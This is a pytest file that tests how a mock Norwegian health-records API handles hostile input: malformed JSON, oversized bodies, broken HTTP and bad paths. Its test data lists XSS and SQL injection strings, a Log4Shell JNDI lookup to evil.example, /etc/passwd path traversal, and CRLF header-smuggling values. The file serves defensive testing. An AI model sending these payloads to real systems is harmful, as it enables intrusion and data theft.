"""Hostile input: 4xx with the documented body, never 5xx, nothing written."""

from __future__ import annotations

import json
import socket
from typing import Any

import pytest
import requests

from mock_kj import samples
from mock_kj.categories import BY_INFO_TYPE
from mock_kj.population import Population
from tests.mock_kj.conftest import Patients
from tests.mock_kj.driver import Ehr, Mock
from tests.mock_kj.test_current import refused

FHIR = {"Content-Type": "application/fhir+json"}


@pytest.fixture
def nin(patients: Patients, doctor: Ehr) -> Any:
    fresh = patients.fresh()
    yield fresh
    assert doctor.status(fresh).json()["hasCriticalInformation"] is False, "something was written"


def drug(nin: str, population: Population, **more: Any) -> dict[str, Any]:
    return samples.resource(BY_INFO_TYPE["DrugReaction"], nin, population.professional_at(0), "2025-01-05") | more


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"{",
        b"null",
        b"[]",
        b'"text"',
        b"\xff\xfe\x00",
        b'{"resourceType":"AllergyIntolerance"',
        b'{"resourceType":"Condition"}',
        b'{"resourceType":["AllergyIntolerance"]}',
        b'{"a":' * 5000 + b"1" + b"}" * 5000,
        b"[" * 200_000,
        b'{"resourceType":"AllergyIntolerance","patient":{},"id":"../../etc/passwd"}',
        b'{"resourceType":"AllergyIntolerance","patient":{"reference":1e999}}',
        b'{"resourceType":"AllergyIntolerance","patient":' + b"9" * 5000 + b"}",
        b'{"resourceType":"AllergyIntolerance","note":[{"text":"\\ud800"}]}',
        b'{"resourceType":"AllergyIntolerance","patient":{"display":"a"},"note":[{"text":"a\\u0001"}]}',
        b'{"resourceType":"AllergyIntolerance","contained":[' + b"{}," * 3000 + b"{}]}",
    ],
    ids=range(17),
)
def test_a_body_that_is_no_resource(doctor: Ehr, nin: str, body: bytes) -> None:
    answer = doctor.call("POST", "AllergyIntolerance", nin, data=body, headers=FHIR)
    assert answer.status_code in (400, 413)
    refused(answer, answer.status_code)


def test_ten_megabytes_are_too_large(doctor: Ehr, nin: str, population: Population) -> None:
    body = json.dumps(drug(nin, population, note=[{"text": "x" * 10_000_000}]))
    refused(doctor.call("POST", "AllergyIntolerance", nin, data=body, headers=FHIR), 413)
    refused(doctor.call("POST", "status", nin, data=body), 413)
    chunks = (b"x" * 65536 for _ in range(160))
    refused(doctor.call("POST", "AllergyIntolerance", nin, data=chunks, headers=FHIR), 413)


@pytest.mark.parametrize(
    "kind", ["text/plain", "application/xml", "multipart/form-data; boundary=x", "", "application/fhir+xml"]
)
def test_a_wrong_content_type(doctor: Ehr, nin: str, population: Population, kind: str) -> None:
    refused(
        doctor.call(
            "POST", "AllergyIntolerance", nin, data=json.dumps(drug(nin, population)), headers={"Content-Type": kind}
        ),
        415,
    )


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "</SCRIPT >",
        "<img src=x onerror=alert(1)>",
        "\u003csvg/onload=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "JaVaScRiPt:alert(1)",
        "'; DROP TABLE entry; --",
        "1' OR '1'='1",
        "x UNION SELECT * FROM usage_log",
        "x\nUNION\tALL\r\nSELECT 1",
        "DELETE FROM entry",
        "delete from entry where 1=1 or",
        "x; insert into entry (id) values (1)",
        "INSERT INTO entry SELECT 1",
        "1 UNION/**/SELECT password FROM users",
        "\nDROP\n\tTABLE entry",
        "<\n\t/ script>",
        "${jndi:ldap://evil.example/a}",
        "data:text/html;base64,PHNjcmlwdD4=",
    ],
)
def test_markup_and_sql_in_a_note(doctor: Ehr, nin: str, population: Population, text: str) -> None:
    body = drug(nin, population, note=[{"text": f"Pasienten {text}"}])
    answer = refused(doctor.call("POST", "AllergyIntolerance", nin, json=body), 400, "KI-MOCK-MALICIOUS")
    assert text not in json.dumps(answer)


@pytest.mark.parametrize(
    "text",
    [
        "Temp > 39 og puls > 120",
        "Kjent allergi; se 'brev' fra 2020 -- usikkert",
        "Bruk av NSAID = kontraindisert",
        "select antibiotics & insert line",
        "delete from list etter avtale",
        "insert into vein as agreed",
    ],
)
def test_ordinary_notes_are_not_taken_for_an_attack(
    doctor: Ehr, patients: Patients, population: Population, text: str
) -> None:
    someone = patients.fresh()
    made = doctor.call("POST", "AllergyIntolerance", someone, json=drug(someone, population, note=[{"text": text}]))
    assert made.status_code == 201, made.text
    assert made.json()["note"][0]["text"] == text


def test_a_text_made_to_keep_an_expression_busy_is_answered_like_any_other(
    doctor: Ehr, nin: str, population: Population
) -> None:
    """An engine that tries every way to split the spaces would need 1e10 steps, and the client's patience ends at 20 s."""
    for text in ("<" + " " * 200_000, "<" * 100_000, "'" + " " * 200_000, "union " * 30_000, "on" + "a" * 200_000):
        body = drug(nin, population, note=[{"text": text}])
        refused(doctor.call("POST", "AllergyIntolerance", nin, json=body), 400)


@pytest.mark.parametrize("gap", [" ", "-", ".", "\u00a0"])
def test_a_real_number_in_two_pieces_or_in_a_header(
    doctor: Ehr, nin: str, patients: Patients, population: Population, gap: str
) -> None:
    from datetime import date

    from mock_kj import identity

    real = identity.number(date(2001, 1, 1), 5, shift=0)
    text = f"Mor: {real[:6]}{gap}{real[6:]}."
    body = drug(nin, population, note=[{"text": text}])
    refused(doctor.call("POST", "AllergyIntolerance", nin, json=body), 400, "KI-MOCK-REAL-NIN")
    headers = {"nhn-source-system": text.encode()}
    expected = "AUTH-0003" if gap == "\u00a0" else "KI-MOCK-REAL-NIN"  # a header must be printable
    refused(doctor.call("GET", "Flag", nin, headers=headers), 400, expected)
    other = patients.fresh()
    harmless = drug(other, population, note=[{"text": f"Prøve 123456{gap}78901"}])
    assert doctor.call("POST", "AllergyIntolerance", other, json=harmless).status_code == 201


def test_a_real_number_in_a_text(doctor: Ehr, nin: str, population: Population) -> None:
    from datetime import date

    from mock_kj import identity

    real = identity.number(date(1971, 3, 2), 5, shift=0)
    refused(
        doctor.call("POST", "AllergyIntolerance", nin, json=drug(nin, population, note=[{"text": f"Se {real}."}])),
        400,
        "KI-MOCK-REAL-NIN",
    )


def raw(mock: Mock, text: bytes) -> bytes:
    host, port = mock.base.removeprefix("http://").rsplit(":", 1)
    with socket.create_connection((host, int(port)), 5) as connection:
        connection.sendall(text)
        connection.shutdown(socket.SHUT_WR)
        answer = b""
        while part := connection.recv(65536):
            answer += part
    return answer


@pytest.mark.parametrize(
    "text",
    [
        b"GET /api/critical-information/v1/Flag HTTP/1.1\r\nHost: x\r\nnhn-event-id: a\rb\r\n\r\n",
        b"GET /api/critical-information/v1/Flag HTTP/1.1\r\nHost: x\r\nnhn-event-id: a\x00b\r\n\r\n",
        b"GET /api/critical-information/v1/Flag HTTP/1.1\r\nHost: x\r\nbad header\r\n\r\n",
        b"POST /api/critical-information/v1/status HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n"
        b"Content-Length: 6\r\n\r\n{}",
        b"POST /helseid/connect/token HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        b"GARBAGE\r\n\r\n",
    ],
)
def test_broken_http_is_refused_and_injects_nothing(mock: Mock, text: bytes) -> None:
    answer = raw(mock, text)
    assert not answer or answer.startswith(b"HTTP/1.1 4")
    assert requests.get(mock.base + "/health", timeout=5).json()["status"] == "up"


def test_a_head_of_more_than_64_kb_is_refused_with_431(mock: Mock) -> None:
    start = b"GET /api/critical-information/v1/Flag HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
    just_fits = b"nhn-source-system: " + b"a" * 60_000
    for head, status in (
        (start + just_fits, b"401"),
        (start + b"nhn-source-system: " + b"a" * 200_000, b"431"),
        (start + b"".join(b"x%d: %s\r\n" % (i, b"a" * 1000) for i in range(200)) + b"x: a", b"431"),
        (start + b"x: " + b"a" * 500_000, b"431"),
        (b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: x", b"431"),
    ):
        assert raw(mock, head + b"\r\n\r\n").startswith(b"HTTP/1.1 " + status), (status, len(head))
    endless = raw(mock, start + b"x: " + b"a" * 700_000)  # no end of the head ever comes
    assert endless.startswith(b"HTTP/1.1 431")
    assert b"x-mock" in endless


def test_the_challenge_names_the_algorithms_that_proofs_may_have(mock: Mock) -> None:
    """RFC 9449 section 7.1; kj-api.md 5.6: RS, PS and ES with 256, 384 and 512."""
    wanted = {kind + size for kind in ("RS", "PS", "ES") for size in ("256", "384", "512")}
    told = requests.get(f"{mock.base}/helseid/.well-known/openid-configuration", timeout=5).json()
    assert set(told["dpop_signing_alg_values_supported"]) == wanted
    for headers in ({}, {"Authorization": "DPoP nonsense", "DPoP": "nonsense"}):
        answer = requests.get(f"{mock.api}/Flag", headers=headers, timeout=5)
        scheme, _, members = answer.headers["www-authenticate"].partition(" ")
        assert (answer.status_code, scheme) == (401, "DPoP")
        assert set(members.partition('algs="')[2].rstrip('"').split()) == wanted


def test_a_header_cannot_smuggle_another_into_the_answer(mock: Mock) -> None:
    for value in (b"a%0d%0aX-Evil: 1", b"a\\r\\nX-Evil: 1", b"\xe5\x98\x8a\xe5\x98\x8dX-Evil: 1", b"\xc2\x85X-Evil: 1"):
        answer = raw(
            mock,
            b"GET /api/critical-information/v1/Flag HTTP/1.1\r\nHost: x\r\nConnection: close\r\nnhn-event-id: "
            + value
            + b"\r\n\r\n",
        )
        assert answer.startswith(b"HTTP/1.1 4")
        head = answer.partition(b"\r\n\r\n")[0]
        assert not any(line.lower().startswith(b"x-evil") for line in head.split(b"\r\n"))


def test_a_header_given_twice_is_refused(mock: Mock, doctor: Ehr, nin: str) -> None:
    prepared = doctor.session.prepare_request(requests.Request("GET", f"{mock.api}/Flag", headers=doctor.headers(nin)))
    lines = [f"{k}: {v}" for k, v in prepared.headers.items() if k.lower() != "connection"]
    other = patient_header("45920040881")
    text = "\r\n".join(
        [
            "GET /api/critical-information/v1/Flag HTTP/1.1",
            f"Host: {mock.base[7:]}",
            "Connection: close",
            *lines,
            other,
            "",
            "",
        ]
    )
    answer = raw(mock, text.encode())
    assert answer.startswith(b"HTTP/1.1 400")
    assert b"AUTH-0003" in answer


def patient_header(nin: str) -> str:
    return f"nhn-patient-nin: {nin}"


@pytest.mark.parametrize(
    "path",
    [
        "../../../etc/passwd",
        "%2e%2e/%2e%2e",
        "AllergyIntolerance/%00",
        "Flag/" + "x" * 5000,
        "Flag?criticalInfoType=%ff",
        "Flag?" + "a=1&" * 2000,
        "Flag/æ",
        "%",
    ],
)
def test_odd_paths_are_refused(doctor: Ehr, nin: str, path: str) -> None:
    answer = doctor.read(path, nin)
    assert 400 <= answer.status_code < 500


def test_forms_to_the_issuer_that_are_no_forms(mock: Mock) -> None:
    for path in ("/helseid/connect/token", "/helseid/connect/par"):
        for body, kind in (
            (b"{}", "application/json"),
            (b"\xff" * 100, ""),
            (b"a=1&a=2", ""),
            (b"x" * 100_000, ""),
            (b"a&" * 3000, ""),
            (b"client_assertion=%ff%ff", ""),
        ):
            headers = {"Content-Type": kind or "application/x-www-form-urlencoded"}
            answer = requests.post(mock.base + path, data=body, headers=headers, timeout=10)
            assert 400 <= answer.status_code < 500, (path, body[:20])
            assert answer.json()["error"] in ("invalid_request", "invalid_client")


def test_nothing_of_all_this_was_a_system_error(mock: Mock) -> None:
    text = requests.get(mock.base + "/metrics", timeout=10).text
    assert 'outcome="system"' not in text
    assert '"level": "error"' not in (mock.data / "stderr.txt").read_text()
